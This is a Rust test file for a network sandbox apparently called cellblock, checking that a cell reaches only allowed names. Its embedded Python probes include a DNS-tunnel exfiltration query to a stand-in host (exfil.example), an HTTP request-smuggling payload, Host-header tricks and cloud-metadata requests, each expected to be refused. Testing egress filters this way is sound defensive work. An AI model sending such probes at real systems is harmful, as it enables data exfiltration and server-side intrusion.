//! What a cell reaches by name, and that it reaches nothing else. The rule numbers are those of the design of the egress path.

use cellblock_tests::internet::Internet;
use serde_json::Value;

/// Flags of a cell that may reach little.
const FEW: &str = "--no-default-allow --allow allowed.test --allow allowed.test:22,9000 --allow *.wild.test";

/// Runs `script`, whose lines `say(WHAT, GOT)` must be what `want` says, in order.
fn check(internet: &Internet, flags: &str, script: &str, want: &[(&str, &str)]) {
    let script = format!("def say(what, got):\n    print(what, '=', got, flush=True)\n{script}");
    let out = internet.python(flags, &script);
    let got: Vec<(&str, &str)> = out.lines().filter_map(|line| line.split_once(" = ")).collect();
    for (index, (what, text)) in want.iter().enumerate() {
        let (said, value) = got.get(index).unwrap_or_else(|| panic!("nothing was said of {what}\n{out}"));
        assert_eq!(said, what, "{out}");
        assert!(
            value.starts_with(text),
            "{what}: expected «{text}», got «{value}»\nall: {out}\nreached: {}",
            internet.reached()
        );
    }
    assert_eq!(got.len(), want.len(), "{out}");
}

#[test]
fn an_allowed_name_is_reached_and_nothing_else_is() {
    let internet = Internet::new();
    let script = "
say('allowed', get('allowed.test'))
say('wild', get('www.wild.test'))
say('deeper', get('a.b.wild.test'))
say('tls', tls('allowed.test', 'allowed.test'))
say('greeting', raw('allowed.test', 22))
say('echo', raw('allowed.test', 9000, b'hello\\n'))
say('apex', names('wild.test'))
say('trick', names('xwild.test'))
say('other', names('other.test'))
say('port', raw('allowed.test', 8080))
say('unopened', raw('allowed.test', 22222))
say('capitals', get('ALLOWED.test', address='ALLOWED.test.'))
say('v4', get('allowed.test', address=names('allowed.test', socket.AF_INET)[0]))
say('v6', get('allowed.test', address=names('allowed.test', socket.AF_INET6)[0]))
";
    check(
        &internet,
        FEW,
        script,
        &[
            ("allowed", "200 {\"scheme\": \"http\", \"at\": \"93.184.216.34\""),
            ("wild", "200"),
            ("deeper", "200"),
            ("tls", "HTTP/1.1 200"),
            ("greeting", "b'SSH-2.0-test"),
            ("echo", "b'hello"),
            ("apex", "no name"),
            ("trick", "no name"),
            ("other", "no name"),
            ("port", "ConnectionRefusedError"),
            ("unopened", "ConnectionRefusedError"),
            ("capitals", "200"),
            ("v4", "200"),
            ("v6", "200"),
        ],
    );
    let reached = internet.reached();
    assert!(!reached.contains("93.184.216.35") && !reached.contains("udp"), "{reached}");
    let denied: Vec<Value> = internet.audit().into_iter().filter(|line| line["verdict"] == "deny").collect();
    for name in ["wild.test", "xwild.test", "other.test"] {
        assert!(denied.iter().any(|line| line["name"] == name), "{name}: {denied:?}");
    }
    let ends: Vec<Value> = internet.audit().into_iter().filter(|line| line["event"] == "end").collect();
    assert!(ends.iter().any(|line| line["up"].as_u64() > Some(0) && line["down"].as_u64() > Some(0)), "{ends:?}");
}

/// R14, R15, R12: addresses as such, this machine, and names that lead where they must not.
#[test]
fn addresses_and_names_that_lead_inwards_are_refused() {
    let internet = Internet::new();
    let flags = "--no-default-allow --allow allowed.test --allow loop.test --allow private.test --allow meta.test --allow own.test \
                 --allow mapped.test --allow nat.test --allow sixtofour.test --allow zero.test";
    let script = "
say('direct v4', get('allowed.test', address='93.184.216.34'))
say('direct v6', get('allowed.test', address='2606:2800:220:1:248:1893:25c8:1946'))
say('metadata', get('169.254.169.254'))
say('gateway', get('allowed.test', address='198.18.0.1'))
say('unknown made-up', get('allowed.test', address='198.18.77.77'))
say('host', get('allowed.test', address='172.20.0.1'))
say('tls direct', tls('93.184.216.34', 'allowed.test'))
for name in ['loop', 'private', 'meta', 'own', 'mapped', 'nat', 'sixtofour', 'zero']:
    say(name, get(name + '.test'))
";
    check(
        &internet,
        flags,
        script,
        &[
            ("direct v4", "403 cellblock: no rule allows 93.184.216.34"),
            ("direct v6", "403"),
            ("metadata", "403 cellblock: no rule allows 169.254.169.254"),
            ("gateway", "403"),
            ("unknown made-up", "403"),
            ("host", "403"),
            ("tls direct", "TLSV1_ALERT_ACCESS_DENIED"),
            ("loop", "403 cellblock: loop.test leads to 127.0.0.1, which is this machine"),
            (
                "private",
                "403 cellblock: private.test leads to 10.1.2.3, which is a private address (the rule would need the word `private`)",
            ),
            ("meta", "403 cellblock: meta.test leads to 169.254.169.254, which is a cloud's metadata service"),
            ("own", "403 cellblock: own.test leads to 172.20.0.1, which is this machine"),
            // The resolver makes an IPv4 address of a mapped one: that of an allowed place.
            ("mapped", ""),
            ("nat", "403 cellblock: nat.test leads to 64:ff9b::"),
            ("sixtofour", "403"),
            ("zero", "403"),
        ],
    );
    let reached = internet.reached();
    for line in reached.lines() {
        assert!(line.starts_with("http 93.184.216.34 GET mapped.test"), "{reached}");
    }
}

/// R13, R14: the same places, asked for in so many words.
#[test]
fn private_places_are_reached_when_a_rule_says_so() {
    let internet = Internet::new();
    // The second rule about one name says more than the first.
    let flags = "--no-default-allow --allow private.test --allow 'private.test private' --allow 'meta.test metadata' --allow 10.9.0.0/16:80 --allow 0.0.0.0/0:80";
    let script = "
say('private', get('private.test'))
say('metadata', get('meta.test'))
say('block', get('10.9.1.1'))
say('public', get('93.184.216.35'))
say('outside the block', get('10.8.1.1'))
say('all addresses are not the metadata', get('169.254.169.254'))
say('nor this host', get('172.20.0.1'))
";
    check(
        &internet,
        flags,
        script,
        &[
            ("private", "200"),
            ("metadata", "200"),
            ("block", "200"),
            ("public", "200"),
            ("outside the block", "403"),
            ("all addresses are not the metadata", "403"),
            ("nor this host", "403"),
        ],
    );
}

/// R16, R17: what goes to the right address must also say the right name, each time.
#[test]
fn a_connection_says_the_name_it_was_made_to() {
    let internet = Internet::new();
    let flags = "--no-default-allow --allow allowed.test:80,443,8443,8080 --allow other.test";
    let script = r#"
at = names('allowed.test', socket.AF_INET)[0]
say('right', tls(at, 'allowed.test'))
say('wrong name', tls(at, 'other.test'))
say('no name', tls(at, None, host='allowed.test'))
say('wrong name, other port', tls(at, 'other.test', 8443))
say('right, other port', tls(at, 'allowed.test', 8443))
say('wrong host', get('other.test', address=at))
say('right host, other port', get('allowed.test:8080', port=8080, address=at))
say('wrong host, other port', get('other.test', port=8080, address=at))
say('not tls', raw(at, 443, b'GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n'))
def two(second):
    with socket.create_connection((at, 80), 5) as stream:
        stream.sendall(b'GET /1 HTTP/1.1\r\nHost: allowed.test\r\n\r\n')
        first = stream.recv(65536)
        stream.sendall(second)
        return (first[:12] + b' ' + stream.recv(65536)[:12]).decode()
say('keep-alive', two(b'GET /2 HTTP/1.1\r\nHost: allowed.test\r\n\r\n'))
say('keep-alive, other host', two(b'GET /3 HTTP/1.1\r\nHost: other.test\r\n\r\n'))
say('two hosts', raw(at, 80, b'GET /4 HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\n\r\n'))
say('absolute form', raw(at, 80, b'GET http://other.test/5 HTTP/1.1\r\nHost: allowed.test\r\n\r\n'))
say('smuggled', raw(at, 80, b'POST /6 HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'))
with socket.create_connection((at, 80), 5) as stream:
    stream.sendall(b'GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: upgrade\r\nUpgrade: echo\r\n\r\n')
    say('upgrade', stream.recv(4096)[:12].decode())
    stream.sendall(b'GET / HTTP/1.1 is just text now')
    say('upgraded', stream.recv(4096).decode())
"#;
    check(
        &internet,
        flags,
        script,
        &[
            ("right", "HTTP/1.1 200"),
            ("wrong name", "TLSV1_ALERT_ACCESS_DENIED"),
            ("no name", "TLSV1_ALERT_ACCESS_DENIED"),
            ("wrong name, other port", "TLSV1_ALERT_ACCESS_DENIED"),
            ("right, other port", "HTTP/1.1 200"),
            ("wrong host", "403 cellblock: the request is for other.test, the address is that of allowed.test:80"),
            ("right host, other port", "200"),
            ("wrong host, other port", "403"),
            ("not tls", ""),
            ("keep-alive", "HTTP/1.1 200 HTTP/1.1 200"),
            ("keep-alive, other host", "HTTP/1.1 200 HTTP/1.1 403"),
            ("two hosts", "b'HTTP/1.1 403"),
            ("absolute form", "b'HTTP/1.1 403"),
            ("smuggled", "b'HTTP/1.1 403"),
            ("upgrade", "HTTP/1.1 101"),
            ("upgraded", "GET / HTTP/1.1 IS JUST TEXT NOW"),
        ],
    );
    let reached = internet.reached();
    assert!(!reached.contains("other.test"), "{reached}");
    for path in ["/3", "/4", "/5", "/6"] {
        assert!(!reached.contains(path), "{path}: {reached}");
    }
    assert!(reached.contains("/2"), "the probe works: {reached}");
}

/// R9: no question ever leaves the machine, and none is answered with more than a made-up address.
#[test]
fn look_ups_are_answered_here_and_tell_nothing() {
    let internet = Internet::new();
    let script = "
for kind, word in [(1, 'A'), (28, 'AAAA'), (65, 'HTTPS'), (64, 'SVCB'), (16, 'TXT'), (15, 'MX'), (33, 'SRV'), (255, 'ANY')]:
    say(word, ask('allowed.test', kind))
say('tunnel', ask('aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA.exfil.example', 16))
say('unknown', ask('other.test', 1))
say('tcp', ask('allowed.test', 1, tcp=True))
say('another resolver', ask('allowed.test', 1, '8.8.8.8'))
say('another resolver, tcp', ask('allowed.test', 1, '8.8.8.8', tcp=True))
say('another resolver, v6', ask('allowed.test', 1, '2001:4860:4860::8888'))
say('another resolver, unknown', ask('other.test', 1, '8.8.8.8'))
say('two questions', ask('allowed.test', 1, count=2))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.settimeout(3)
    sock.connect((names('allowed.test', socket.AF_INET)[0], 443))
    sock.send(b'hello')
    try:
        say('udp', sock.recv(100))
    except OSError as error:
        say('udp', type(error).__name__)
";
    check(
        &internet,
        FEW,
        script,
        &[
            ("A", "(0, 1)"),
            ("AAAA", "(0, 1)"),
            ("HTTPS", "(0, 0)"),
            ("SVCB", "(0, 0)"),
            ("TXT", "(0, 0)"),
            ("MX", "(0, 0)"),
            ("SRV", "(0, 0)"),
            ("ANY", "(0, 0)"),
            ("tunnel", "(3, 0)"),
            ("unknown", "(3, 0)"),
            ("tcp", "(0, 1)"),
            ("another resolver", "(0, 1)"),
            ("another resolver, tcp", "(0, 1)"),
            ("another resolver, v6", "(0, 1)"),
            ("another resolver, unknown", "(3, 0)"),
            ("two questions", "(4, 0)"),
            ("udp", "ConnectionRefusedError"),
        ],
    );
    assert_eq!(internet.reached(), "", "not one packet");
}

/// R1, R2, R4: what the cell's namespace holds is no part of what keeps it in.
#[test]
fn the_cells_own_interfaces_enforce_nothing_and_lead_nowhere() {
    let internet = Internet::new();
    let script = "
import os, subprocess
say('links', sorted(os.listdir('/sys/class/net')))
def tried(*words):
    return subprocess.run(words, capture_output=True, text=True).returncode != 0
say('no new link', tried('ip', 'link', 'add', 'd0', 'type', 'dummy'))
say('no address', tried('ip', 'addr', 'add', '93.184.216.34/32', 'dev', 'lo'))
say('no route', tried('ip', 'route', 'add', '1.1.1.1/32', 'dev', 'eth0'))
def opens(family, kind):
    try:
        socket.socket(family, kind).close()
        return 'open'
    except OSError as error:
        return type(error).__name__
say('inet', opens(socket.AF_INET, socket.SOCK_STREAM))
say('packet', opens(socket.AF_PACKET, socket.SOCK_RAW))
say('vsock', opens(socket.AF_VSOCK, socket.SOCK_STREAM))
say('raw', opens(socket.AF_INET, socket.SOCK_RAW))
say('still', get('allowed.test'))
";
    for user in ["", "-u root"] {
        check(
            &internet,
            &format!("{FEW} {user}"),
            script,
            &[
                ("links", "['eth0', 'lo']"),
                ("no new link", "True"),
                ("no address", "True"),
                ("no route", "True"),
                ("inet", "open"),
                ("packet", ""),
                ("vsock", ""),
                ("raw", ""),
                ("still", "200"),
            ],
        );
    }
    let out = internet.python(&format!("{FEW} -u root"), "
def opens(family, kind):
    try:
        socket.socket(family, kind).close()
        return 'open'
    except OSError as error:
        return 'closed'
print([opens(f, k) for f, k in [(socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_VSOCK, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_STREAM)]])");
    assert_eq!(out, "['closed', 'closed', 'closed', 'open']\n");
}

/// An empty list is nothing, and says so in the audit shown before the start.
#[test]
fn nothing_allowed_is_nothing_reached() {
    let internet = Internet::new();
    internet.world.configure("defaults:\n  allow: []\n");
    let script = "
say('name', names('allowed.test'))
say('address', raw('93.184.216.34', 80))
";
    check(&internet, "", script, &[("name", "no name"), ("address", "ConnectionRefusedError")]);
    internet.cellblock("run --image host -- true").run().says("nothing can be reached");
    assert_eq!(internet.reached(), "");
}

/// A deny rule beats whatever is allowed.
#[test]
fn a_denied_name_stays_denied() {
    let internet = Internet::new();
    let flags = "--no-default-allow --allow *.wild.test --allow ** --deny www.wild.test --deny 93.184.216.35";
    let script = "
say('allowed', get('a.b.wild.test'))
say('denied', names('www.wild.test'))
say('every name', get('allowed.test'))
say('denied address', get('other.test'))
";
    check(
        &internet,
        flags,
        script,
        &[
            ("allowed", "200"),
            ("denied", "no name"),
            ("every name", "200"),
            ("denied address", "403 cellblock: other.test leads to 93.184.216.35, which 93.184.216.35/32 denies"),
        ],
    );
}

/// Row B3: a file of domains, also in tinyproxy's words.
#[test]
fn a_file_of_domains_is_a_list_of_what_is_allowed() {
    let internet = Internet::new();
    internet.world.write("home/allowed", "# names\nallowed.test\n^www\\.wild\\.test$\n");
    let file = internet.world.path("home/allowed");
    let flags = format!("--no-default-allow --allow-file {}", file.display());
    let script = "
say('plain', get('allowed.test'))
say('expression', get('www.wild.test'))
say('other', names('other.test'))
";
    check(&internet, &flags, script, &[("plain", "200"), ("expression", "200"), ("other", "no name")]);
    internet.world.write("home/allowed", "allowed.test\n^(foo|bar)[0-9]+\\.test$\n");
    let done = internet.cellblock(&format!("run {flags} --image host -- true")).fails(125);
    done.says("line 2").says("regular expression");
    let done = internet.cellblock("run --allow-file /nowhere --image host -- true").fails(125);
    done.says("--allow-file: /nowhere cannot be read").says("a domain or rule in each line");
}

/// R15: services of this machine, by name and port only.
#[test]
fn services_of_this_machine_are_reached_by_their_names() {
    let internet = Internet::new();
    let server = internet.world.path("server.py");
    internet.world.write(
        "server.py",
        "
import socket, sys
listener = socket.create_server(('127.0.0.1', 0))
print(listener.getsockname()[1], flush=True)
while True:
    connection, _ = listener.accept()
    connection.sendall(b'from the host\\n')
    connection.close()
",
    );
    let mut child = internet.call(std::path::Path::new("python3"), &[&server]).start();
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().expect("a pipe")), &mut line)
        .expect("a line");
    let port = line.trim();
    let script = format!(
        "
for name in ['host.docker.internal', 'host.containers.internal', 'host.cellblock.internal']:
    say(name, raw(name, {port}))
say('own loopback', raw('127.0.0.1', {port}))
say('other port', raw('host.docker.internal', 80))
"
    );
    check(
        &internet,
        &format!("--no-default-allow --allow allowed.test --allow host:{port}"),
        &script,
        &[
            ("host.docker.internal", "b'from the host"),
            ("host.containers.internal", "b'from the host"),
            ("host.cellblock.internal", "b'from the host"),
            ("own loopback", "ConnectionRefusedError"),
            ("other port", "ConnectionResetError"),
        ],
    );
    let _ = child.kill();
    let _ = child.wait();
}

/// A rule for all ports is caught by nf_tables; what is not allowed is refused as ever.
#[test]
fn all_ports_of_a_name_are_caught_without_a_listener_each() {
    let internet = Internet::new();
    let script = "
say('http', get('allowed.test'))
say('other port', get('allowed.test:8080', port=8080, address='allowed.test'))
say('greeting', raw('allowed.test', 22))
say('echo', raw('allowed.test', 9000, b'hello\\n'))
say('tls', tls('allowed.test', 'allowed.test'))
say('v6', get('allowed.test', address=names('allowed.test', socket.AF_INET6)[0]))
say('other name', names('other.test'))
say('direct', get('93.184.216.34'))
say('direct, other port', get('93.184.216.34', port=8080))
say('wrong host', get('other.test', address='allowed.test'))
say('look-up', ask('other.test', 1, '8.8.8.8', tcp=True))
";
    check(
        &internet,
        "--no-default-allow --allow allowed.test:all",
        script,
        &[
            ("http", "200"),
            ("other port", "200"),
            ("greeting", "b'SSH-2.0-test"),
            ("echo", "b'hello"),
            ("tls", "HTTP/1.1 200"),
            ("v6", "200"),
            ("other name", "no name"),
            ("direct", "403"),
            ("direct, other port", "403"),
            ("wrong host", "403"),
            ("look-up", "(3, 0)"),
        ],
    );
    let start = internet.audit().into_iter().find(|line| line["event"] == "start").expect("a start");
    assert_eq!(start["why"], "every port, by nf_tables");
}

/// Opportunity 7 of the field: a policy that proves itself.
#[test]
fn the_network_proves_itself_on_the_persons_machine() {
    let internet = Internet::new();
    let flags = "--no-default-allow --allow allowed.test";
    let out = internet.cellblock(&format!("net test {flags}")).ok();
    for line in [
        "✓ a name that is not allowed (cellblock-net-test.example) does not resolve",
        "✓ an address as such (1.1.1.1:443) is not reached",
        "✓ a cloud's metadata service (169.254.169.254:80) is not reached",
        "✓ this machine (172.20.0.1:22) is not reached",
        "✓ data in a look-up to a resolver outside (8.8.8.8) goes nowhere",
        "✓ UDP (QUIC to 1.1.1.1:443) is refused",
        "✓ a name that is allowed (allowed.test:443) is reached",
        "The network holds.",
    ] {
        assert!(out.contains(line), "{line}\n{out}");
    }
    // Only what the host itself tried, and the twin from inside.
    assert!(internet.reached().lines().all(|l| l.starts_with("broken 443")), "{}", internet.reached());
    // What a rule opens is reached, and is then no failure of the network.
    let json = internet.cellblock(&format!("net test --json {flags} --allow 1.1.1.1")).ok();
    let report: Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!(report["holds"], true);
    assert!(!json.contains("1.1.1.1:443) is not reached"), "{json}");
    internet.cellblock("net test --net none").fails(125).says("not made by names");
}
